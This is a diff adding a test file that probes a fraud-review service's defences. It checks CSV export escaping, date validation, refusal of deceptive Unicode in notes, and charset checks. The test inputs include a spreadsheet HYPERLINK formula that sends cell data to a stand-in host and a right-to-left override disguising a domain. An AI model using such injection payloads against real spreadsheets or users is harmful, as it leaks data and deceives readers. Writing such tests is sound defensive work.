@@ -1,0 +1,151 @@
+/**
+ * The cases of an abuse probe run against the service as an attacker would, on the real worker
+ * (workerd through Miniflare, real local KV, D1 and Queues): what did not hold before and must hold
+ * now. Spreadsheet formulas in the CSV export, impossible calendar dates in the queue filters, text
+ * that can mislead in notes, and JSON declared in another charset. Each case failed on the code
+ * before the fix. docs/reliability.md lists what the probe tried and what held.
+ */
+import { mkdtemp, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { parseCsvChunks } from "../../cli/csv";
+import { readLabels } from "../../cli/labels";
+import type { ItemDetail, QueuePage } from "../src/review/contract";
+import { fitShopModel, SHOP_FEATURES, UNUSUAL_PAYMENT } from "./fixtures";
+import { eventually, makeTokens, startWorker, type D1Like, type RunningWorker } from "./harness";
+
+const tokens = makeTokens();
+let worker: RunningWorker;
+let db: D1Like;
+
+beforeAll(async () => {
+  worker = await startWorker({ tokens, vars: { MODEL_REFRESH_SECONDS: "0", AUDIT_SAMPLE_RATE: "0" } });
+  db = await worker.db();
+  const artifact = await fitShopModel({ version: "m20260302-probe01" });
+  expect((await worker.post("/v1/models", artifact, tokens.admin)).status).toBe(201);
+  expect((await worker.post(`/v1/models/${artifact.version}/activate`, {}, tokens.admin)).status).toBe(200);
+});
+
+afterAll(async () => {
+  await worker?.dispose();
+});
+
+interface Refusal {
+  error: string;
+  problems: { field: string; rule: string }[];
+}
+
+const get = async <T>(path: string, token = tokens.analyst): Promise<{ status: number; body: T }> => {
+  const res = await worker.fetch(path, { token });
+  return { status: res.status, body: (await res.json()) as T };
+};
+const post = async <T>(path: string, body: unknown = {}, token = tokens.analyst): Promise<{ status: number; body: T }> => {
+  const res = await worker.post(path, body, token);
+  return { status: res.status, body: (await res.json()) as T };
+};
+
+/** Scores an unusual payment under `transactionId` and waits until its review item is stored. */
+async function flag(transactionId: string): Promise<number> {
+  const features = { ...UNUSUAL_PAYMENT, amount: UNUSUAL_PAYMENT.amount + transactionId.length };
+  const res = await worker.post("/v1/score", { transactionId, features, segment: "web" }, tokens.flow);
+  expect(res.status, await res.clone().text()).toBe(200);
+  return eventually(async () => {
+    const row = await db.prepare("SELECT id FROM review_items WHERE transaction_id = ?1").bind(transactionId).first<{ id: number }>();
+    return row?.id;
+  }, 15_000);
+}
+
+async function decide(id: number, outcome: "fraud" | "legitimate", note?: string): Promise<{ status: number; body: unknown }> {
+  expect((await post(`/v1/review/items/${id}/claim`)).status).toBe(200);
+  return post(`/v1/review/items/${id}/decision`, note === undefined ? { outcome } : { outcome, note });
+}
+
+describe("spreadsheet formulas in the CSV export", () => {
+  const hostileId = '=HYPERLINK("http://x.test/"&A1,"x")';
+
+  it("marks a caller-chosen id that a spreadsheet would evaluate, keeps NDJSON verbatim, and the CLI reads the id back intact", async () => {
+    const ids = [hostileId, "+1-555", "-2+3", "@SUM(A1)", "'=quoted", "pay-plain"];
+    const items = await Promise.all(ids.map(flag));
+    for (const [k, id] of items.entries()) expect((await decide(id, k % 2 === 0 ? "fraud" : "legitimate")).status).toBe(200);
+
+    const csv = await (await worker.fetch("/v1/review/export?format=csv", { token: tokens.analyst })).text();
+    const firstCells = parseCsvChunks([csv], "export.csv").slice(1).map((record) => record.cells[0]);
+    expect(firstCells).toEqual([`'${hostileId}`, "'+1-555", "'-2+3", "'@SUM(A1)", "''=quoted", "pay-plain"]);
+    // Numbers are not text cells: a negative log-density stays a number.
+    expect(csv).toMatch(/,-\d/);
+
+    const ndjson = await (await worker.fetch("/v1/review/export?format=ndjson", { token: tokens.analyst })).text();
+    expect(ndjson.trim().split("\n").map((line) => (JSON.parse(line) as { id: string }).id)).toEqual(ids);
+
+    const dir = await mkdtemp(join(tmpdir(), "isodense-probe-"));
+    const path = join(dir, "labels.csv");
+    await writeFile(path, csv);
+    const labels = await readLabels(path, { features: SHOP_FEATURES, segmentCandidates: ["segment"] });
+    expect(labels.ids).toEqual(ids);
+  });
+});
+
+describe("impossible calendar dates in the queue filters", () => {
+  it("refuses them with 400 naming the field instead of answering an empty queue", async () => {
+    for (const [query, field] of [
+      ["from=2026-13-45", "from"],
+      ["to=2026-02-30", "to"],
+      ["from=2026-02-30T10:00:00Z", "from"],
+      ["to=2025-02-29", "to"],
+      ["from=2026-04-31", "from"],
+    ] as const) {
+      for (const path of ["/v1/review/items", "/v1/review/counts"]) {
+        const { status, body } = await get<Refusal>(`${path}?${query}`);
+        expect(status, `${path}?${query}`).toBe(400);
+        expect(body.problems[0].field).toBe(field);
+        expect(body.problems[0].rule).toContain("on a day that exists");
+      }
+    }
+  });
+
+  it("still accepts real days, leap days included", async () => {
+    expect((await get<QueuePage>("/v1/review/items?from=2024-02-29&to=2026-12-31")).status).toBe(200);
+    expect((await get<QueuePage>("/v1/review/items?from=2026-02-28T23:59:59Z")).status).toBe(200);
+  });
+});
+
+describe("text that can mislead", () => {
+  it("refuses a note holding NUL, a bidirectional override or a lone surrogate with a 400 naming the rule, and stores nothing", async () => {
+    const id = await flag("tx-probe-note");
+    expect((await post(`/v1/review/items/${id}/claim`)).status).toBe(200);
+    for (const [note, found] of [
+      ["fine\u0000hidden", "U+0000 at position 5"],
+      ["refund to \u202Egro.elpmaxe", "U+202E at position 11"],
+      ["isolate \u2066x\u2069", "U+2066 at position 9"],
+      ["broken \uD800 text", "U+D800 at position 8"],
+    ] as const) {
+      const { status, body } = await post<Refusal>(`/v1/review/items/${id}/decision`, { outcome: "fraud", note });
+      expect(status).toBe(400);
+      expect(body.problems[0].field).toBe("note");
+      expect(body.problems[0].rule).toContain("bidirectional embedding, override or isolate characters");
+      expect(body.problems[0].rule).toContain(`found ${found}`);
+    }
+    const detail = await get<ItemDetail>(`/v1/review/items/${id}`);
+    expect(detail.body.item.state).toBe("claimed");
+    expect(detail.body.events.map((e) => e.action)).toEqual(["claim"]);
+    // Line breaks, tabs and right-to-left text with its direction marks stay allowed.
+    const ok = await post(`/v1/review/items/${id}/decision`, { outcome: "legitimate", note: "called back\n\tשולם \u200F ok" });
+    expect(ok.status).toBe(200);
+  });
+
+  it("refuses a JSON body declared in a charset other than UTF-8 with 415 naming the header", async () => {
+    const body = JSON.stringify({ transactionId: "tx-probe-utf16", features: UNUSUAL_PAYMENT, segment: "web" });
+    for (const type of ["application/json; charset=utf-16", "application/json;charset=UTF-16LE", 'application/json; charset="iso-8859-1"']) {
+      const res = await worker.fetch("/v1/score", { method: "POST", headers: { "content-type": type }, body, token: tokens.flow });
+      expect(res.status, type).toBe(415);
+      const refusal = (await res.json()) as Refusal;
+      expect(refusal.problems[0].field).toBe("content-type");
+      expect(refusal.problems[0].rule).toContain("must declare charset=utf-8 or no charset");
+    }
+    for (const type of ["application/json; charset=utf-8", 'application/json; charset="UTF-8"', "application/json"]) {
+      const res = await worker.fetch("/v1/score", { method: "POST", headers: { "content-type": type }, body, token: tokens.flow });
+      expect(res.status, type).toBe(200);
+    }
+  });
+});
